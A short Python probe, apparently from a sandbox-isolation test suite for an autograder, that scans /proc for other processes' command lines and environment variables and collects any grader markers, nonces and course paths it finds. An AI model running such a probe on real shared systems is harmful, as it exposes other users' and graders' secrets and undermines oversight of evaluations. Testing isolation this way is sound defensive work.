# Attack: look for other processes (the grader, the zygote, other students) and their secrets through /proc.
import os

def attack():
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    leaks = []
    for pid in pids:
        for item in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{item}", "rb") as f:
                    data = f.read()
            except OSError:
                continue
            for needle in (TARGETS["marker"], TARGETS["paths"]["course"], "GRADER", "nonce"):
                if needle.encode() in data:
                    leaks.append(f"{pid}/{item}: {needle}")
    with open("/proc/self/mountinfo") as f:
        mounts = f.read()
    if TARGETS["paths"]["course"] in mounts:
        leaks.append("the course is mounted")
    return {"pids": len(pids), "leaks": leaks, "uid": os.getuid()}
